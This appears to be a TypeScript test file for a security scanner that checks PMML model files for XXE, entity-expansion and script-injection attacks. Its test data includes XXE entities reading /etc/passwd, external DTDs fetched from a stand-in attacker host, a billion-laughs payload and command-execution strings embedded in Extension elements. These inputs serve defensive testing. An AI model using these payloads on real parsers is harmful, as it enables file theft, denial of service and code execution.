/** PMML scan hook: XXE (XML-001), entity expansion (XML-002), Extension payloads (XML-003); near-misses. */
import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { scan } from './scan.js';
import { directScan, has, scanFile } from '../../../test/helpers/scan-kit.js';

const body = (ext = '') => `<PMML xmlns="http://www.dmg.org/PMML-4_4" version="4.4">
  <Header copyright="x"><Application name="test" version="1"/>${ext}</Header>
  <DataDictionary numberOfFields="1"><DataField name="x" optype="continuous" dataType="double"/></DataDictionary>
  <RegressionModel functionName="regression"><MiningSchema><MiningField name="x"/></MiningSchema>
    <RegressionTable intercept="1.0"><NumericPredictor name="x" coefficient="2.0"/></RegressionTable></RegressionModel>
</PMML>`;
const doc = (prolog: string, ext = '') => `<?xml version="1.0" encoding="UTF-8"?>\n${prolog}${body(ext)}`;
const run = (text: string) => directScan(scan, { 'm.pmml': text }, 'm.pmml', 'pmml', 'pmml-xml');

describe('PMML scan hook', () => {
  it('near-miss: a plain PMML document is benign', async () => {
    const r = await run(doc(''));
    assert.equal(r.verdict, 'benign');
    assert.deepEqual(r.all, []);
  });

  it('XML-001: external entities and external DTDs are high (XXE)', async () => {
    for (const dt of [
      '<!DOCTYPE PMML [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n',
      '<!DOCTYPE PMML [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>\n',
      '<!DOCTYPE PMML SYSTEM "http://evil.example/pmml.dtd">\n',
      '<!DOCTYPE PMML PUBLIC "-//X//DTD//EN" "http://evil.example/p.dtd">\n',
    ]) {
      const r = await run(doc(dt));
      assert.equal(r.verdict, 'malicious', dt);
      assert.ok(has(r.all, 'XML-001', 'high'), dt);
    }
  });

  it('XML-002: internal entities (billion laughs) are medium; a bare DOCTYPE is low', async () => {
    const lol = '<!DOCTYPE PMML [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>\n';
    const r = await run(doc(lol));
    assert.equal(r.verdict, 'suspicious');
    assert.ok(r.all.some((f) => f.rule === 'XML-002' && f.evidence.includes('referencing other entities')));
    const bare = await run(doc('<!DOCTYPE PMML>\n'));
    assert.ok(has(bare.all, 'XML-002', 'low'));
    assert.equal(bare.verdict, 'benign');
    const inText = await run(doc('', '<Annotation>&lt;!DOCTYPE x SYSTEM "y"&gt;</Annotation>'));
    assert.equal(inText.verdict, 'benign', 'a DOCTYPE-looking text inside the document is data');
  });

  it('XML-003: Extension with script-like content is medium; plain Extensions are info', async () => {
    const bad = await run(doc('', '<Extension name="init" value="Runtime.getRuntime().exec(&quot;id&quot;)"/>'));
    assert.equal(bad.verdict, 'suspicious');
    assert.ok(has(bad.all, 'XML-003', 'medium'));
    const bad2 = await run(doc('', '<Extension extender="x"><script>import os; os.system("id")</script></Extension>'));
    assert.ok(has(bad2.all, 'XML-003', 'medium'));
    const ok = await run(doc('', '<Extension name="repr" value="PMMLPipeline(steps=[...])"/>'));
    assert.equal(ok.verdict, 'benign');
    assert.ok(has(ok.all, 'XML-003', 'info'));
  });

  it('end to end: an XXE PMML is malicious through scanSource', async () => {
    const r = await scanFile({ 'm.pmml': doc('<!DOCTYPE PMML [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n') }, 'm.pmml');
    assert.equal(r.format?.id, 'pmml');
    assert.equal(r.verdict, 'malicious');
  });
});
